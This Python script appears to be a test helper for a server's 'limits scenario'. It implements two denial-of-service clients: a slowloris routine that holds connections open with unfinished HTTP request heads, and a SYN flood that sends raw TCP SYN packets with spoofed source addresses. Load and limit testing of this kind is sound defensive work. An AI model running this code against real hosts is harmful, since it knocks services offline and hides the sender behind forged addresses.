#!/usr/bin/env python3
# SPDX-License-Identifier: GPL-2.0
"""Misbehaving clients for the limits scenario.

  clients.py slowloris ADDR PORT N SECS
      Opens N connections to ADDR:PORT from the addresses given in the
      environment variable SRC (space-separated; round robin), sends every
      other one a partial request head (never finished), holds them all
      SECS seconds, then closes them. Prints "opened N, open at end M".

  clients.py synflood SRC_NET DST PORT N
      Sends N SYNs with spoofed source addresses in SRC_NET (a /24 given
      as a.b.c) to DST:PORT through a raw socket, and prints "sent N".
"""
import os
import random
import socket
import struct
import sys
import time


def slowloris(addr, port, n, secs):
    srcs = os.environ.get("SRC", "").split() or [None]
    socks = []
    for i in range(n):
        s = socket.socket()
        src = srcs[i % len(srcs)]
        if src:
            s.bind((src, 0))
        s.settimeout(5)
        s.connect((addr, port))
        if i % 2:
            s.sendall(b"GET /slow HTTP/1.1\r\nHost: slow.example\r\nX-a: ")
        socks.append(s)
    end = time.monotonic() + secs
    while time.monotonic() < end:
        time.sleep(0.2)
    open_ = 0
    for s in socks:
        s.setblocking(False)
        try:
            d = s.recv(1)
            open_ += d != b""
        except BlockingIOError:
            open_ += 1
        except OSError:
            pass
        s.close()
    print(f"opened {len(socks)}, open at end {open_}")


def csum(b):
    if len(b) % 2:
        b += b"\0"
    s = sum(struct.unpack(f"!{len(b) // 2}H", b))
    s = (s >> 16) + (s & 0xFFFF)
    s += s >> 16
    return ~s & 0xFFFF


def synflood(net, dst, port, n):
    raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    d = socket.inet_aton(dst)
    rnd = random.Random(7)
    for _ in range(n):
        src = socket.inet_aton(f"{net}.{rnd.randint(1, 254)}")
        sport = rnd.randint(1024, 65535)
        tcp = struct.pack("!HHIIBBHHH", sport, port, rnd.getrandbits(32), 0, 5 << 4, 0x02, 64240, 0, 0)
        pseudo = src + d + struct.pack("!BBH", 0, 6, len(tcp))
        tcp = tcp[:16] + struct.pack("!H", csum(pseudo + tcp)) + tcp[18:]
        ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(tcp), rnd.getrandbits(16), 0, 64, 6, 0, src, d)
        ip = ip[:10] + struct.pack("!H", csum(ip)) + ip[12:]
        raw.sendto(ip + tcp, (dst, 0))
    print(f"sent {n}")


if __name__ == "__main__":
    a = sys.argv[1:]
    if a[0] == "slowloris":
        slowloris(a[1], int(a[2]), int(a[3]), float(a[4]))
    elif a[0] == "synflood":
        synflood(a[1], a[2], int(a[3]), int(a[4]))
    else:
        sys.exit(f"unknown command {a[0]}")
